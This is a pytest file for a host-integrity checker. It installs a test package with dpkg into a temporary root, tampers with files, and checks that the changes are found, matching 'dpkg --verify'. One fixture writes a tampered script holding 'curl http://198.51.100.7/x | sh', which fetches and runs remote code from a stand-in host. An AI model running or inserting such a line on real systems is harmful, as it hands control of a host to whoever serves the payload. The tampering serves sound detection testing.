"""The integrity family on a real dpkg database: a package built with dpkg-deb and installed by dpkg itself
into a temporary merged-/usr tree (with a diversion, a conffile and a path-exclude), then tampered with.
Our verdict is compared with `dpkg --verify --root` on the same tree."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from hostguard.engine.facts import Facts
from hostguard.findings import Finding
from hostguard.host.base import RootHost
from hostguard.host.packages import DPKG_VERIFY
from tests.conftest import make_config, need_root, need_tool, run_one


def _md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


@pytest.fixture(scope="module")
def dpkg_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tree holding one package ``hgtool`` installed by dpkg: /bin/hgtool (an ELF copied from this machine's
    /usr/bin/true, listed under its pre-merge name), a data file, a conffile, a doc file kept out by
    path-exclude, and /usr/bin/hgother diverted locally to /usr/bin/hgother.distrib."""
    need_tool("dpkg", "dpkg-deb", "dpkg-divert")
    need_root("dpkg --root")
    base = tmp_path_factory.mktemp("dpkg")
    pkg, root = base / "pkg", base / "root"
    files = {"bin/hgtool": Path("/usr/bin/true").read_bytes(), "usr/bin/hgother": b"#!/bin/sh\necho packaged\n",
             "usr/share/hgtool/data.txt": b"data\n", "usr/share/doc/hgtool/README": b"doc\n",
             "etc/hgtool.conf": b"a=1\n"}
    for rel, data in files.items():
        (pkg / rel).parent.mkdir(parents=True, exist_ok=True)
        (pkg / rel).write_bytes(data)
        (pkg / rel).chmod(0o755 if "bin/" in rel else 0o644)
    (pkg / "DEBIAN").mkdir()
    (pkg / "DEBIAN/control").write_text("Package: hgtool\nVersion: 1.0\nArchitecture: amd64\n"
                                        "Maintainer: Test <test@example.test>\nDescription: integrity test\n")
    (pkg / "DEBIAN/conffiles").write_text("/etc/hgtool.conf\n")
    (pkg / "DEBIAN/md5sums").write_text("".join(f"{_md5(d)}  {r}\n" for r, d in files.items() if r[:4] != "etc/"))
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(pkg), str(base / "hgtool.deb")], check=True,
                   capture_output=True)
    for sub in ("var/lib/dpkg/info", "var/lib/dpkg/updates", "usr/bin", "etc/dpkg/dpkg.cfg.d"):
        (root / sub).mkdir(parents=True)
    (root / "var/lib/dpkg/status").touch()
    (root / "bin").symlink_to("usr/bin")
    (root / "etc/dpkg/dpkg.cfg.d/excludes").write_text("# keep docs out\npath-exclude=/usr/share/doc/*\n")
    subprocess.run(["dpkg-divert", "--root", str(root), "--local", "--rename", "--divert", "/usr/bin/hgother.distrib",
                    "--add", "/usr/bin/hgother"], check=True, capture_output=True)
    subprocess.run(["dpkg", "--root", str(root), "--path-exclude=/usr/share/doc/*", "--force-script-chrootless",
                    "--force-not-root", "-i", str(base / "hgtool.deb")], check=True, capture_output=True)
    return root


def _copy(tree: Path, dest: Path) -> Path:
    shutil.copytree(tree, dest, symlinks=True)
    return dest


def _found(root: Path) -> dict[str, Finding]:
    found, skipped = run_one("integrity.changed_file", RootHost(str(root)))
    assert skipped == []
    return {str(f.target["path"]): f for f in found}


def _dpkg_changed(root: Path) -> set[str]:
    """Files `dpkg --verify` says changed (md5 flag), conffiles left out as ours leave them out."""
    out = subprocess.run(["dpkg", "--verify", "--root", str(root)], capture_output=True, text=True).stdout
    return {line.split()[-1] for line in out.splitlines() if line[2:3] == "5" and " c " not in line}


def test_installed_tree_is_clean_and_dpkg_agrees(dpkg_tree: Path) -> None:
    assert _found(dpkg_tree) == {}
    assert _dpkg_changed(dpkg_tree) == set()
    verification = Facts(RootHost(str(dpkg_tree)), make_config()).get(DPKG_VERIFY)
    assert verification.checked == 3  # hgtool, data.txt, hgother at its diverted place; README is excluded
    assert verification.missing == 0


def test_tampering_is_caught_like_dpkg_verify_does(dpkg_tree: Path, tmp_path: Path) -> None:
    """Hit: the ELF's bytes changed (high, found at /usr/bin through the tree's own /bin link) and the data
    file changed (low, package named). Near misses in the same tree: the conffile edited, a local wrapper at
    the diverted path, the excluded README absent."""
    root = _copy(dpkg_tree, tmp_path / "root")
    with open(root / "usr/bin/hgtool", "ab") as f:
        f.write(b"\x90 implant")
    (root / "usr/share/hgtool/data.txt").write_text("changed\n")
    (root / "etc/hgtool.conf").write_text("a=2\n")
    (root / "usr/bin/hgother").write_text("#!/bin/sh\nexec /usr/bin/hgother.distrib --wrapped\n")
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgtool", "/usr/share/hgtool/data.txt"]
    assert found["/usr/bin/hgtool"].severity == "high"
    assert found["/usr/bin/hgtool"].evidence["listed_as"] == "/bin/hgtool"
    assert found["/usr/bin/hgtool"].evidence["why"] == "an ELF executable"
    assert found["/usr/share/hgtool/data.txt"].severity == "low"
    assert found["/usr/share/hgtool/data.txt"].evidence["package"] == "hgtool:amd64"
    assert {found[p].evidence["listed_as"] for p in found} == _dpkg_changed(root)


def test_the_diverted_copy_is_what_is_checked(dpkg_tree: Path, tmp_path: Path) -> None:
    """The package's hgother lives at hgother.distrib: changing it there is found, under that path."""
    root = _copy(dpkg_tree, tmp_path / "root")
    (root / "usr/bin/hgother.distrib").write_text("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgother.distrib"]
    assert found["/usr/bin/hgother.distrib"].severity == "high"  # a script in a PATH directory
    # dpkg --verify (1.21) says nothing here: it leaves diverted files out, so it cannot cross-check this one


def test_a_replaced_binary_is_caught_whatever_its_size_or_time(dpkg_tree: Path, tmp_path: Path) -> None:
    """Same size, same mtime, one byte different: only the digest can tell, and it does."""
    root = _copy(dpkg_tree, tmp_path / "root")
    target = root / "usr/bin/hgtool"
    data, st = bytearray(target.read_bytes()), target.stat()
    data[-1] ^= 0xFF
    target.write_bytes(bytes(data))
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert list(_found(root)) == ["/usr/bin/hgtool"]


def test_a_broken_md5sums_file_is_one_clear_skip(dpkg_tree: Path, tmp_path: Path) -> None:
    root = _copy(dpkg_tree, tmp_path / "root")
    (root / "var/lib/dpkg/info/hgtool.md5sums").write_bytes(b"not a digest line\n")
    found, skipped = run_one("integrity.changed_file", RootHost(str(root)))
    assert found == []
    assert [(s.reason, s.item) for s in skipped] == [("error", "hgtool:amd64")]
    assert "hgtool.md5sums line 1" in skipped[0].detail


def test_no_dpkg_database_is_unsupported_not_clean(tmp_path: Path) -> None:
    found, skipped = run_one("integrity.changed_file", RootHost(str(tmp_path)))
    assert found == [] and [s.reason for s in skipped] == ["unsupported"]

